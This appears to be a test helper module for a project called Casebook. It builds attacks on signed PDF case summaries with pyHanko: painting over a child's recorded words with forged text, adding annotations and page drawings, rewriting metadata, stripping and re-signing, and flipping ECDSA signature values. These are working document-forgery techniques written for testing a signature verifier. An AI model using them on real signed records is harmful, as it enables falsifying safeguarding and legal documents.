"""Attacks on signed summaries, built the way an attacker would: with plain pyHanko.

Each function takes a signed summary and returns the attacked file. The attacker has the
file and their own key (a :class:`casebook.signing.SigningIdentity` made by anyone); they
never have the practitioner's key. Nothing here uses Casebook's own signing helpers, so a
fix in Casebook's signer cannot hide an attack.
"""

from __future__ import annotations

import io
from typing import Any

from casebook.signing import SigningIdentity

#: Over the child's own words on page 2 of ``summary_samples.summary()`` (PDF points).
OVER_PAGE_TWO_TEXT = (55.0, 95.0, 540.0, 235.0)
FORGED_WORDS = "The child said nothing of concern."


def plain_signer(identity: SigningIdentity) -> Any:
    """A pyHanko signer for ``identity``, low-S like Casebook's (a careful attacker's)."""
    from cryptography.hazmat.primitives.asymmetric.utils import (
        decode_dss_signature,
        encode_dss_signature,
    )
    from pyhanko.keys import load_certs_from_pemder_data, load_private_key_from_pemder_data
    from pyhanko.sign import signers
    from pyhanko_certvalidator.registry import SimpleCertificateStore

    class CarefulSigner(signers.SimpleSigner):  # type: ignore[misc]
        def sign_raw(self, data: bytes, digest_algorithm: str) -> bytes:
            r, s = decode_dss_signature(super().sign_raw(data, digest_algorithm))
            order = _order(self.signing_cert.dump())
            return encode_dss_signature(r, min(s, order - s))

    return CarefulSigner(
        signing_cert=next(iter(load_certs_from_pemder_data(identity.cert_pem))),
        signing_key=load_private_key_from_pemder_data(identity.key_pem, passphrase=None),
        cert_registry=SimpleCertificateStore(),
    )


def _metadata(field_name: str) -> Any:
    from pyhanko.sign import signers
    from pyhanko.sign.fields import SigSeedSubFilter

    return signers.PdfSignatureMetadata(
        field_name=field_name, md_algorithm="sha256", subfilter=SigSeedSubFilter.PADES
    )


def _writer(pdf: bytes) -> Any:
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    return IncrementalPdfFileWriter(io.BytesIO(pdf))


def _write(writer: Any) -> bytes:
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _sign(writer: Any, field_name: str, attacker: SigningIdentity) -> bytes:
    """Sign ``field_name`` (new or existing) keeping whatever appearance it has."""
    from pyhanko.sign import signers
    from pyhanko.stamp import NoOpStampStyle

    signer = signers.PdfSigner(
        _metadata(field_name), signer=plain_signer(attacker), stamp_style=NoOpStampStyle()
    )
    return bytes(signer.sign_pdf(writer).getvalue())


def white_box_appearance(writer: Any, width: float, height: float, text: str) -> Any:
    """A form XObject: an opaque white box with ``text`` on it (Helvetica)."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    drawing = (
        f"1 1 1 rg 0 0 {width:g} {height:g} re f "
        f"0 0 0 rg BT /F1 14 Tf 12 {height - 30:g} Td ({text}) Tj ET"
    ).encode("latin-1")
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                generic.FloatObject(v) for v in (0, 0, width, height)
            ),
            pdf_name("/Resources"): generic.DictionaryObject(
                {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
            ),
        },
        stream_data=drawing,
    )
    return writer.add_object(stream)


def _field(writer: Any, name: str) -> Any:
    from pyhanko.sign.fields import enumerate_sig_fields

    for field_name, _, ref in enumerate_sig_fields(writer):
        if field_name == name:
            return ref
    raise LookupError(name)


def paint_over_with_new_signature(
    signed: bytes,
    attacker: SigningIdentity,
    page: int = 1,
    box: tuple[float, float, float, float] = OVER_PAGE_TWO_TEXT,
) -> bytes:
    """Attack (a): a new signature field whose widget shows a white box with other words."""
    from pyhanko.pdf_utils.generic import DictionaryObject, pdf_name
    from pyhanko.sign import fields

    writer = _writer(signed)
    fields.append_signature_field(writer, fields.SigFieldSpec("Review", on_page=page, box=box))
    widget = _field(writer, "Review").get_object()
    appearance = white_box_appearance(writer, box[2] - box[0], box[3] - box[1], FORGED_WORDS)
    widget[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): appearance})
    return _sign(writer, "Review", attacker)


def add_annotation(
    signed: bytes, subtype: str, page: int = 1, attacker: SigningIdentity | None = None
) -> bytes:
    """Attack (b): an incremental update adding a FreeText or Square annotation.

    With ``attacker`` the same update also carries the attacker's invisible signature;
    without, the update is unsigned.
    """
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    writer = _writer(signed)
    page_ref, _ = writer.find_page_for_modification(page)
    box = OVER_PAGE_TWO_TEXT
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name(subtype),
            pdf_name("/Rect"): generic.ArrayObject(generic.FloatObject(v) for v in box),
            pdf_name("/Contents"): generic.TextStringObject(FORGED_WORDS),
            pdf_name("/C"): generic.ArrayObject([generic.FloatObject(1)] * 3),
            pdf_name("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
            pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
            pdf_name("/P"): page_ref,
        }
    )
    annotation[pdf_name("/AP")] = generic.DictionaryObject(
        {pdf_name("/N"): white_box_appearance(writer, box[2] - box[0], box[3] - box[1],
                                              FORGED_WORDS)}
    )  # fmt: skip
    page_obj = page_ref.get_object()
    annots = page_obj.get("/Annots", generic.ArrayObject())
    page_obj[pdf_name("/Annots")] = generic.ArrayObject([*annots, writer.add_object(annotation)])
    writer.update_container(page_obj)
    return _write(writer) if attacker is None else _sign(writer, "Review", attacker)


def add_page_content(
    signed: bytes, page: int = 1, attacker: SigningIdentity | None = None
) -> bytes:
    """Attack (b): an incremental update appending drawing to a page's content.

    With ``attacker`` the same update also carries the attacker's invisible signature.
    """
    from pyhanko.pdf_utils import generic

    writer = _writer(signed)
    drawing = (
        b"q 1 1 1 rg 55 95 485 140 re f 0 0 0 rg BT /F1 14 Tf 67 205 Td ("
        + FORGED_WORDS.encode("latin-1")
        + b") Tj ET Q"
    )
    writer.add_stream_to_page(page, writer.add_object(generic.StreamObject(stream_data=drawing)))
    return _write(writer) if attacker is None else _sign(writer, "Review", attacker)


def change_document_information(signed: bytes, attacker: SigningIdentity) -> bytes:
    """A stranger's invisible signature whose revision also rewrites the title and keywords."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import pdf_name

    writer = _writer(signed)
    info = writer.trailer["/Info"].get_object()
    info[pdf_name("/Title")] = generic.TextStringObject("Summary approved by the court")
    info[pdf_name("/Keywords")] = generic.TextStringObject("casebook summary; audit-head 1:00")
    writer.update_container(info)
    return _sign(writer, "Review", attacker)


def countersign_invisibly_with_a_drawing(signed: bytes, attacker: SigningIdentity) -> bytes:
    """A new zero-area signature field whose appearance is a full white box with words."""
    from pyhanko.pdf_utils.generic import DictionaryObject, pdf_name
    from pyhanko.sign import fields

    writer = _writer(signed)
    fields.append_signature_field(writer, fields.SigFieldSpec("Review", on_page=1))
    widget = _field(writer, "Review").get_object()
    box = OVER_PAGE_TWO_TEXT
    appearance = white_box_appearance(writer, box[2] - box[0], box[3] - box[1], FORGED_WORDS)
    widget[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): appearance})
    return _sign(writer, "Review", attacker)


def countersign_invisibly(signed: bytes, attacker: SigningIdentity, name: str = "Review") -> bytes:
    """Attack (c), which must pass: a new invisible signature field, nothing else."""
    return _sign(_writer(signed), name, attacker)


def fill_reserved_field_with_moved_widget(
    signed: bytes,
    attacker: SigningIdentity,
    field_name: str = "Supervisor",
    page: int = 1,
    box: tuple[float, float, float, float] = OVER_PAGE_TWO_TEXT,
) -> bytes:
    """Fill the reserved field but move its widget (and a white box) over page text."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.generic import DictionaryObject, pdf_name

    writer = _writer(signed)
    widget_ref = _field(writer, field_name)
    widget = widget_ref.get_object()
    page_ref, _ = writer.find_page_for_modification(page)
    old_page = widget.raw_get("/P")
    widget[pdf_name("/Rect")] = generic.ArrayObject(generic.FloatObject(v) for v in box)
    widget[pdf_name("/P")] = page_ref
    appearance = white_box_appearance(writer, box[2] - box[0], box[3] - box[1], FORGED_WORDS)
    widget[pdf_name("/AP")] = DictionaryObject({pdf_name("/N"): appearance})
    writer.update_container(widget)
    if old_page.reference != page_ref.reference:
        page_obj = page_ref.get_object()
        annots = page_obj.get("/Annots", generic.ArrayObject())
        page_obj[pdf_name("/Annots")] = generic.ArrayObject([*annots, widget_ref])
        writer.update_container(page_obj)
    return _sign(writer, field_name, attacker)


def strip_signatures(signed: bytes) -> bytes:
    """The summary as it was before its first signature (revision 1's bytes)."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(signed))
    first = reader.embedded_signatures[0]
    # The first signature's update starts right after the previous revision's %%EOF.
    end = signed.rindex(b"%%EOF", 0, first.byte_range[1]) + len(b"%%EOF")
    while signed[end : end + 1] in (b"\r", b"\n"):
        end += 1
    return signed[:end]


def resign(signed: bytes, attacker: SigningIdentity) -> bytes:
    """Attack (e): strip the practitioner's signature and sign the same content again."""
    return _sign(_writer(strip_signatures(signed)), "Practitioner", attacker)


def swap_s(signed: bytes, which: int = -1) -> bytes:
    """Attack (d): replace an ECDSA signature's s by n - s, keeping the file's length.

    Args:
        signed: A signed PDF.
        which: Index of the signature (in file order) to change.

    Returns:
        The PDF with the CMS re-encoded around (r, n - s) in the same /Contents gap.
    """
    import re

    from asn1crypto import cms
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.asymmetric.utils import (
        decode_dss_signature,
        encode_dss_signature,
    )

    ranges = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed)
    _, start, end, _ = (int(x) for x in ranges[which])
    digits = signed[start + 1 : end - 1]
    raw = bytes.fromhex(digits.decode("ascii"))
    info = cms.ContentInfo.load(raw)  # not strict: the zero padding after it is ignored
    signer = info["content"]["signer_infos"][0]
    cert = x509.load_der_x509_certificate(info["content"]["certificates"][0].chosen.dump())
    public_key = cert.public_key()
    assert isinstance(public_key, ec.EllipticCurvePublicKey)
    order = public_key.curve.group_order
    r, s = decode_dss_signature(signer["signature"].native)
    signer["signature"] = encode_dss_signature(r, order - s)
    der = info.dump(force=True)
    hex_digits = der.hex().upper().encode("ascii")
    if digits.islower():
        hex_digits = hex_digits.lower()
    assert len(hex_digits) <= len(digits)
    padded = hex_digits + b"0" * (len(digits) - len(hex_digits))
    return signed[: start + 1] + padded + signed[end - 1 :]


def _order(cert_der: bytes) -> int:
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ec

    public_key = x509.load_der_x509_certificate(cert_der).public_key()
    assert isinstance(public_key, ec.EllipticCurvePublicKey)
    return int(public_key.curve.group_order)


def ecdsa_s_values(pdf: bytes) -> list[tuple[int, int]]:
    """(s, n) of every ECDSA signature in ``pdf``, in file order."""
    from asn1crypto import cms
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
    from pyhanko.pdf_utils.reader import PdfFileReader

    values = []
    for signature in PdfFileReader(io.BytesIO(pdf)).embedded_signatures:
        signed_data: cms.SignedData = signature.signed_data
        cert = x509.load_der_x509_certificate(signature.signer_cert.dump())
        public_key = cert.public_key()
        assert isinstance(public_key, ec.EllipticCurvePublicKey)
        _, s = decode_dss_signature(signed_data["signer_infos"][0]["signature"].native)
        values.append((s, public_key.curve.group_order))
    return values
